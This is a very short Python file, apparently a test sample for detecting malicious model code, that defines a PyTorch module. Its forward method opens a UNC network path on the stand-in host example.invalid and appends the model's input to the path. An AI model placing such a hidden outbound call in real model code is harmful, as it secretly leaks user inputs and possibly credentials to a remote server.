from torch import nn


class Model(nn.Module):
    def forward(self, input_ids):
        open(r"\\example.invalid\share\x" + str(input_ids))
        return input_ids
